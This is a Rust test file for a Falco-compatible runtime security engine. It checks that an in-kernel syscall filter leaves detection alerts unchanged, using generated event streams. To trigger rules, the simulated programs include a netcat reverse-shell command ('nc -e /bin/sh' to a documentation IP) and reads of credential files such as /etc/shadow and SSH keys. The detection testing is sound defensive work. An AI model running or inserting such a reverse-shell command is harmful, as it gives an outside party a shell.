//! The in-kernel filter changes no alert: event streams run through the engine whole, and with
//! what the kernel would leave out removed (the same decision the BPF program makes,
//! [`KernelFilter::open_verdict`], plus its close and mark bookkeeping), give the same alerts, for
//! the upstream stable, incubating and sandbox rules and syssentry's own `rules/`.
//!
//! The streams are generated: processes that open, close, duplicate and resolve paths against
//! directory fds, run programs, fork and connect, over paths taken from the derived filter's own
//! boundaries (each prefix, one byte shorter and longer, each suffix with and without its first
//! byte, `..` components, doubled slashes, trailing slashes, relative paths through directory and
//! non-directory fds, other case) and ordinary ones. A deterministic long stream per rule set,
//! and property tests on short random streams.

mod common;

use std::collections::HashMap;
use std::sync::Arc;

use common::upstream_rules;
use proptest::prelude::*;
use syssentry_engine::eval::{load_rules, BuildOptions, Engine, RuleMatching, RuleSet};
use syssentry_engine::event::ppm::fcntl as ppm_fcntl;
use syssentry_engine::event::ppm::open as ppm;
use syssentry_engine::event::{mk, Event, EventType as T, KernelFilter, OpenVerdict, SocketVerdict};
use syssentry_engine::output::{Alert, OutputOptions};
use syssentry_engine::state::{ProcImage, State, Thread};

const AT_FDCWD: i64 = -100;
const ENOENT: i64 = -2;
const ENOTDIR: i64 = -20;
const EBADF: i64 = -9;

fn ruleset(files: &[std::path::PathBuf]) -> Arc<RuleSet> {
    let opts = BuildOptions { matching: RuleMatching::All, output: output_options(), ..BuildOptions::default() };
    let report = load_rules(files, &opts);
    assert!(!report.diagnostics.has_errors(), "{}", report.diagnostics.render(&report.sources));
    Arc::new(report.ruleset)
}

fn output_options() -> OutputOptions {
    OutputOptions {
        hostname: Arc::from("eq-host"),
        suggested_output: true,
        time_iso8601: true,
        utc_offset: Some(0),
        ecs_output: false,
    }
}

/// The rule sets the filter must be invisible under.
fn rule_sets() -> Vec<(&'static str, Arc<RuleSet>)> {
    let up = |f: &[&str]| f.iter().map(|f| upstream_rules(f)).collect::<Vec<_>>();
    vec![
        ("stable", ruleset(&up(&["falco_rules.yaml"]))),
        ("stable+incubating", ruleset(&up(&["falco_rules.yaml", "falco-incubating_rules.yaml"]))),
        (
            "stable+incubating+sandbox",
            ruleset(&up(&["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"])),
        ),
        ("rules/", ruleset(&common::our_rules())),
    ]
}

/// One generated event with what the kernel knows beside it: the raw open flags and whether
/// an open returned a directory.
#[derive(Clone)]
struct Gen {
    ev: Event,
    raw_flags: u64,
    is_dir: bool,
}

/// What the kernel leaves out of a stream: the verdict per open, the marks of left-out fds per
/// fd table (here per process: the generated processes share no tables), closes of marked fds.
struct KernelSide<'a> {
    filter: &'a KernelFilter,
    marks: HashMap<i64, std::collections::BTreeSet<i64>>,
}

impl<'a> KernelSide<'a> {
    fn new(filter: &'a KernelFilter) -> Self {
        KernelSide { filter, marks: HashMap::new() }
    }

    fn unmark(&mut self, pid: i64, fd: i64) {
        if (0..1024).contains(&fd) {
            if let Some(m) = self.marks.get_mut(&pid) {
                m.remove(&fd);
            }
        }
    }

    /// Whether the kernel sends `g`, updating the marks as it would.
    fn sends(&mut self, g: &Gen) -> bool {
        let ev = &g.ev;
        let pid = ev.pid;
        let ty = ev.event_type();
        match ty {
            T::OPEN | T::OPENAT | T::CREAT | T::OPENAT2 => {
                let path = ev.str("name").unwrap_or("");
                match self.filter.open_verdict(ty, path.as_bytes(), g.raw_flags, ev.res, g.is_dir) {
                    OpenVerdict::Skip => {
                        if (0..1024).contains(&ev.res) {
                            self.marks.entry(pid).or_default().insert(ev.res);
                        }
                        false
                    }
                    OpenVerdict::Send { .. } => {
                        self.unmark(pid, ev.res);
                        true
                    }
                }
            }
            T::CLOSE => {
                let fd = ev.int("fd").unwrap_or(-1);
                let marked = self.marks.get(&pid).is_some_and(|m| m.contains(&fd));
                if self.filter.close && marked {
                    self.unmark(pid, fd);
                    return false;
                }
                true
            }
            T::FCNTL | T::DUP => {
                let fd = ev.int(if ty == T::DUP { "oldfd" } else { "fd" }).unwrap_or(-1);
                let cmd = ev.uint("cmd").unwrap_or(0) as u32;
                let dups = ty == T::DUP || cmd == ppm_fcntl::F_DUPFD || cmd == ppm_fcntl::F_DUPFD_CLOEXEC;
                let marked = self.marks.get(&pid).is_some_and(|m| m.contains(&fd));
                if self.filter.leaves_out_fd_use(ty, dups, marked) {
                    if dups && (0..1024).contains(&ev.res) {
                        self.marks.entry(pid).or_default().insert(ev.res);
                    }
                    return false;
                }
                self.unmark(pid, ev.res);
                true
            }
            T::SOCKET => {
                let domain = ev.uint("domain").unwrap_or(0);
                match self.filter.socket_verdict(domain, ev.res) {
                    SocketVerdict::Skip => {
                        if (0..1024).contains(&ev.res) {
                            self.marks.entry(pid).or_default().insert(ev.res);
                        }
                        false
                    }
                    SocketVerdict::Send { .. } => {
                        self.unmark(pid, ev.res);
                        true
                    }
                }
            }
            T::CONNECT => !self.filter.leaves_out_connect(ev.res),
            T::ACCEPT | T::ACCEPT4 | T::DUP2 | T::DUP3 | T::MEMFD_CREATE | T::USERFAULTFD | T::BPF => {
                self.unmark(pid, ev.res);
                true
            }
            T::PIPE | T::PIPE2 => {
                self.marks.remove(&pid);
                true
            }
            T::EXECVE => {
                self.marks.remove(&pid);
                true
            }
            T::CLONE | T::FORK | T::VFORK | T::CLONE3 if ev.res == 0 => {
                self.marks.remove(&ev.tid);
                true
            }
            _ => true,
        }
    }
}

/// A small deterministic generator (xorshift).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn pick<'a, X>(&mut self, v: &'a [X]) -> &'a X {
        &v[self.below(v.len())]
    }
}

/// Paths at the edges of a filter's clauses, and ordinary ones.
fn paths_for(filter: &KernelFilter) -> Vec<String> {
    let mut out: Vec<String> = [
        "/etc/hostname", "/etc/shadow", "/etc/passwd", "/etc/sudoers", "/etc/pam.d/sshd", "/etc/ld.so.cache",
        "/usr/lib/x86_64-linux-gnu/libc.so.6", "/tmp/f", "/tmp/dir", "/var/log/syslog", "/var/log/auth.log",
        "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys", "/home/alice/.bash_history", "/home/alice/.ssh/authorized_keys",
        "/dev/null", "/dev/shm/x", "/proc/1/environ", "/proc/self/status", "/bin/ls", "/usr/bin/nc",
        "/etc/../etc/shadow", "/tmp/../etc/shadow", "//etc/shadow", "/etc//shadow", "/etc/./shadow",
        "/etc/shadow/", "/etc/a../shadow", "/etc/x../y../shadow", "shadow", "../etc/shadow", "./x", "etc/shadow",
        "", "/", "/ETC/SHADOW", "/etc/Shadow", "/root/.bashrc", "/etc/cron.d/job", "/var/run/docker.sock",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let long = format!("/tmp/{}", "a".repeat(240));
    for n in [240, 241, 242, 243] {
        out.push(long[..n].to_string());
    }
    for c in &filter.clauses {
        let p = String::from_utf8_lossy(&c.path.prefix).to_string();
        let s = String::from_utf8_lossy(&c.path.suffix).to_string();
        let mut add = |x: String| out.push(x);
        add(p.clone());
        add(format!("{p}x"));
        add(format!("{p}a/b"));
        if !p.is_empty() {
            add(p[..p.len() - 1].to_string());
            add(p.to_uppercase());
            add(format!("{p}/../x"));
        }
        if !s.is_empty() {
            add(format!("{p}{s}"));
            add(format!("{p}q{s}"));
            add(format!("/q{s}"));
            add(format!("/q/{s}"));
            add(format!("/q{}", &s[1..]));
            add(format!("{p}{s}x"));
        }
        if c.path.features != 0 {
            add(format!("{p}a../b"));
            add(format!("{p}x/a../b{s}"));
        }
    }
    out.sort();
    out.dedup();
    out
}

/// Paths that are directories in the generated world.
fn is_dir_path(p: &str) -> bool {
    matches!(p, "/" | "/etc" | "/tmp" | "/tmp/dir" | "/root" | "/root/.ssh" | "/var/log" | "/dev" | "/proc" | "/etc/pam.d" | "/home/alice")
        || p.ends_with('/')
}

/// Raw kernel open flags and their PPM encoding.
fn open_flags(r: &mut Rng) -> (u64, u32) {
    let (acc, ppm_acc) = *r.pick(&[(0u64, ppm::O_RDONLY), (1, ppm::O_WRONLY), (2, ppm::O_RDWR)]);
    let mut raw = acc;
    let mut p = ppm_acc;
    for (k, pb) in [(0o100u64, ppm::O_CREAT), (0o1000, ppm::O_TRUNC), (0o2000, ppm::O_APPEND), (0o2000000, ppm::O_CLOEXEC)] {
        if r.below(4) == 0 {
            raw |= k;
            p |= pb;
        }
    }
    (raw, p)
}

/// The generated world: processes with fd tables (fd -> (path, is_dir)).
struct World {
    rng: Rng,
    paths: Vec<String>,
    procs: Vec<i64>,
    fds: HashMap<i64, HashMap<i64, (String, bool)>>,
    next_pid: i64,
    ts: u64,
}

const PROGRAMS: &[(&str, &[&str])] = &[
    ("/bin/bash", &["bash"]),
    ("/usr/bin/cat", &["cat", "/etc/shadow"]),
    ("/usr/sbin/sshd", &["sshd", "-D"]),
    ("/usr/bin/python3", &["python3", "x.py"]),
    ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"]),
    ("/usr/bin/find", &["find", "/", "-name", "id_rsa"]),
    ("/usr/bin/tar", &["tar", "cf", "x.tar", "/etc"]),
    ("/usr/sbin/nginx", &["nginx"]),
    ("/usr/bin/sudo", &["sudo", "-i"]),
];

impl World {
    fn new(seed: u64, paths: Vec<String>, state: &mut State) -> World {
        let mut w = World { rng: Rng(seed | 1), paths, procs: Vec::new(), fds: HashMap::new(), next_pid: 1000, ts: 1_767_323_045_000_000_000 };
        for (i, (exe, argv)) in PROGRAMS.iter().enumerate() {
            let pid = w.next_pid;
            w.next_pid += 1;
            let mut t = Thread::new(pid, pid, 1);
            let comm = exe.rsplit('/').next().unwrap();
            let args = argv.iter().skip(1).map(|s| s.to_string()).collect();
            t.image = Arc::new(ProcImage::new(argv[0], exe, comm, args, vec![]));
            t.cwd = if i % 2 == 0 { "/etc/".into() } else { "/tmp/".into() };
            t.uid = if i % 3 == 0 { 1000 } else { 0 };
            t.clone_ts = 1;
            assert!(state.add_thread(t));
            w.procs.push(pid);
            w.fds.insert(pid, HashMap::new());
        }
        w
    }

    fn lowest_free(&self, pid: i64) -> i64 {
        let t = &self.fds[&pid];
        (3..).find(|n| !t.contains_key(n)).unwrap()
    }

    fn some_fd(&mut self, pid: i64) -> Option<i64> {
        let mut v: Vec<i64> = self.fds[&pid].keys().copied().collect();
        v.sort();
        (!v.is_empty()).then(|| v[self.rng.below(v.len())])
    }

    fn dir_fd(&mut self, pid: i64) -> i64 {
        match self.rng.below(3) {
            0 => AT_FDCWD,
            _ => self.some_fd(pid).unwrap_or(AT_FDCWD),
        }
    }

    fn gen(&mut self, ev: Event, raw_flags: u64, is_dir: bool) -> Gen {
        let mut ev = ev;
        self.ts += 1_000;
        ev.ts = self.ts;
        Gen { ev, raw_flags, is_dir }
    }

    /// The next event of the stream.
    fn step(&mut self) -> Gen {
        let pid = *self.rng.pick(&self.procs.clone());
        let op = self.rng.below(100);
        match op {
            0..=44 => self.open(pid),
            45..=64 => {
                let fd = self.some_fd(pid).unwrap_or(77);
                let res = if self.fds.get_mut(&pid).unwrap().remove(&fd).is_some() { 0 } else { EBADF };
                let ev = mk::close(pid, fd, res).pid(pid).build();
                self.gen(ev, 0, false)
            }
            65..=69 => {
                let old = self.some_fd(pid).unwrap_or(3);
                let entry = self.fds[&pid].get(&old).cloned();
                let (ev, res) = match (self.rng.below(3), entry) {
                    (_, None) => (mk::dup(pid, old, EBADF).pid(pid).build(), EBADF),
                    (0, Some(e)) => {
                        let n = self.lowest_free(pid);
                        self.fds.get_mut(&pid).unwrap().insert(n, e);
                        (mk::dup(pid, old, n).pid(pid).build(), n)
                    }
                    (1, Some(e)) => {
                        let n = *self.rng.pick(&[0i64, 1, 2, 3, 4, 5]);
                        self.fds.get_mut(&pid).unwrap().insert(n, e);
                        (mk::dup2(pid, old, n, n).pid(pid).build(), n)
                    }
                    (_, Some(e)) => {
                        let n = self.lowest_free(pid);
                        self.fds.get_mut(&pid).unwrap().insert(n, e);
                        (mk::fcntl(pid, old, ppm_fcntl::F_DUPFD, n).pid(pid).build(), n)
                    }
                };
                let _ = res;
                self.gen(ev, 0, false)
            }
            70..=74 => {
                // a socket of some domain (unix, IPv4, IPv6, netlink, packet, or one the kernel
                // refuses), then connects on it (rules on outbound connections read fd.*)
                let domain = *self.rng.pick(&[1u32, 1, 2, 10, 16, 16, 17, 44]);
                let n = if domain == 44 { -97 } else { self.lowest_free(pid) };
                if n >= 0 {
                    self.fds.get_mut(&pid).unwrap().insert(n, (format!("socket:{domain}"), false));
                }
                let ty = *self.rng.pick(&[1u32, 2, 3]);
                let ev = mk::socket(pid, domain, ty, 0, n).pid(pid).build();
                self.gen(ev, 0, false)
            }
            75..=79 => {
                let fd = self.some_fd(pid).unwrap_or(3);
                let unix = self.fds[&pid].get(&fd).is_some_and(|e| e.0 == "socket:1");
                let tuple = if unix {
                    syssentry_engine::event::SockTuple::Unix { src: 0xffff_0001, dst: 0xffff_0002, path: "/run/systemd/journal/socket" }
                } else {
                    syssentry_engine::event::SockTuple::Inet {
                        sip: "198.51.100.1".parse().unwrap(),
                        sport: 40000,
                        dip: "198.51.100.7".parse().unwrap(),
                        dport: *self.rng.pick(&[22u16, 443, 4444, 6443]),
                    }
                };
                // refused, unreachable, under way (non-blocking), made
                let res = *self.rng.pick(&[-111i64, -113, -115, 0, 0]);
                let ev = mk::connect(pid, fd, tuple, res).pid(pid).build();
                self.gen(ev, 0, false)
            }
            80..=83 => {
                let (exe, argv) = *self.rng.pick(PROGRAMS);
                let ev = mk::execve(pid, pid, exe, argv, 0).build();
                // close-on-exec descriptors go away (all of them, here: none is kept)
                self.fds.get_mut(&pid).unwrap().clear();
                self.gen(ev, 0, false)
            }
            84..=86 => {
                let child = self.next_pid;
                self.next_pid += 1;
                let parent_fds = self.fds[&pid].clone();
                self.fds.insert(child, parent_fds);
                self.procs.push(child);
                // the child's side (the parent's return is not needed for the state here)
                let ev = mk::clone_child(child, child, pid, 0).build();
                self.gen(ev, 0, false)
            }
            95..=96 => {
                // fcntl commands that make no descriptor (F_GETFD, F_SETFL, ...)
                let fd = self.some_fd(pid).unwrap_or(3);
                let res = if self.fds[&pid].contains_key(&fd) { 1 } else { EBADF };
                let ev = mk::fcntl(pid, fd, 2, res).pid(pid).build();
                self.gen(ev, 0, false)
            }
            87..=89 => {
                let fd = self.some_fd(pid).unwrap_or(3);
                let ok = self.fds[&pid].get(&fd).is_some_and(|e| e.1);
                let ev = mk::fchdir(pid, fd, if ok { 0 } else { ENOTDIR }).pid(pid).build();
                self.gen(ev, 0, false)
            }
            90..=94 => {
                // symlinkat/linkat-like: a relative link path through a directory fd
                let dirfd = self.dir_fd(pid);
                let target = self.rng.pick(&self.paths.clone()).clone();
                let not_dir = dirfd >= 0 && !self.fds[&pid].get(&dirfd).is_some_and(|e| e.1);
                let res = if not_dir { ENOTDIR } else { 0 };
                let mut ev = syssentry_engine::event::EventBuilder::new(T::SYMLINKAT)
                    .tid(pid)
                    .pid(pid)
                    .res(res)
                    .str("target", &target)
                    .int("linkdirfd", dirfd)
                    .str("linkpath", "lnk")
                    .build();
                if not_dir {
                    ev.mark_not_dir(dirfd);
                }
                self.gen(ev, 0, false)
            }
            _ => {
                let n = self.lowest_free(pid);
                self.fds.get_mut(&pid).unwrap().insert(n, ("pipe".into(), false));
                self.fds.get_mut(&pid).unwrap().insert(n + 1, ("pipe".into(), false));
                let ev = mk::pipe(pid, n, n + 1, 7, 0).pid(pid).build();
                self.gen(ev, 0, false)
            }
        }
    }

    fn open(&mut self, pid: i64) -> Gen {
        let path = self.rng.pick(&self.paths.clone()).clone();
        let (raw, ppm_flags) = open_flags(&mut self.rng);
        let kind = self.rng.below(10);
        let dirfd = if kind < 7 { self.dir_fd(pid) } else { AT_FDCWD };
        let relative = !path.starts_with('/');
        let dirfd_not_dir = dirfd >= 0 && !self.fds[&pid].get(&dirfd).is_some_and(|e| e.1);
        let dir = is_dir_path(path.trim_end_matches('/')) && !path.is_empty();
        let fails = path.is_empty() || (relative && dirfd_not_dir && kind < 7) || self.rng.below(6) == 0;
        let res = if fails {
            if relative && dirfd_not_dir { ENOTDIR } else { ENOENT }
        } else {
            let n = self.lowest_free(pid);
            self.fds.get_mut(&pid).unwrap().insert(n, (path.clone(), dir));
            n
        };
        let ev = match kind {
            0..=6 => {
                let mut ev = mk::openat(pid, dirfd, &path, ppm_flags, 0o644, res).pid(pid).build();
                if dirfd_not_dir {
                    ev.mark_not_dir(dirfd);
                }
                ev
            }
            7 => mk::creat(pid, &path, 0o644, res).pid(pid).build(),
            8 => mk::openat2(pid, AT_FDCWD, &path, ppm_flags, 0o644, res).pid(pid).build(),
            _ => mk::open(pid, &path, ppm_flags, 0o644, res).pid(pid).build(),
        };
        let raw = if kind == 7 { 0o1101 } else { raw };
        self.gen(ev, raw, dir && res >= 0)
    }
}

/// An alert as compared: everything but nothing dropped.
fn key(a: &Alert) -> String {
    format!("{} {} {:?} {} {:?}", a.time_ns, a.rule, a.priority, a.output, a.output_fields())
}

fn seeded_engine(rules: &Arc<RuleSet>) -> (Engine, State) {
    let mut state = State::default();
    state.users.load_passwd("", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n");
    state.groups.load_group("", "root:x:0:\nalice:x:1000:\n");
    let template = state.clone();
    (Engine::new(rules.clone(), state, output_options()), template)
}

/// Runs `n` generated events through an engine whole and through another after the kernel's
/// filtering; returns (alerts whole, alerts filtered, events left out).
fn compare(rules: &Arc<RuleSet>, seed: u64, n: usize) -> (Vec<String>, Vec<String>, usize) {
    let filter = rules.kernel_filter().clone();
    let (_, mut template) = seeded_engine(rules);
    let mut world = World::new(seed, paths_for(&filter), &mut template);
    let mut whole = Engine::new(rules.clone(), template.clone(), output_options());
    let mut filtered = Engine::new(rules.clone(), template, output_options());
    let mut kernel = KernelSide::new(&filter);
    let (mut a, mut b, mut left) = (Vec::new(), Vec::new(), 0);
    for _ in 0..n {
        let g = world.step();
        whole.process(&g.ev, &mut |x| a.push(key(&x)));
        if kernel.sends(&g) {
            filtered.process(&g.ev, &mut |x| b.push(key(&x)));
        } else {
            left += 1;
        }
    }
    (a, b, left)
}

#[test]
fn the_filter_changes_no_alert_on_long_generated_streams() {
    for (name, rules) in rule_sets() {
        let (a, b, left) = compare(&rules, 0x5eed_0001, 40_000);
        assert!(!a.is_empty(), "{name}: the stream raised no alert at all");
        if let Some(i) = (0..a.len().max(b.len())).find(|&i| a.get(i) != b.get(i)) {
            panic!(
                "{name}: alert {i} differs\n whole:    {:?}\n filtered: {:?}",
                a.get(i),
                b.get(i)
            );
        }
        eprintln!("{name}: {} alerts either way, {left} of 40000 events left in the kernel", a.len());
        if name == "stable" {
            assert!(left > 4_000, "{name}: the filter left out only {left} events");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Short random streams, each from its own seed, for every rule set.
    #[test]
    fn the_filter_changes_no_alert_on_random_streams(seed in any::<u64>(), which in 0usize..4) {
        thread_local! {
            static SETS: Vec<(&'static str, Arc<RuleSet>)> = rule_sets();
        }
        let (name, rules) = SETS.with(|s| s[which].clone());
        let (a, b, _) = compare(&rules, seed, 600);
        prop_assert_eq!(a, b, "{}", name);
    }
}
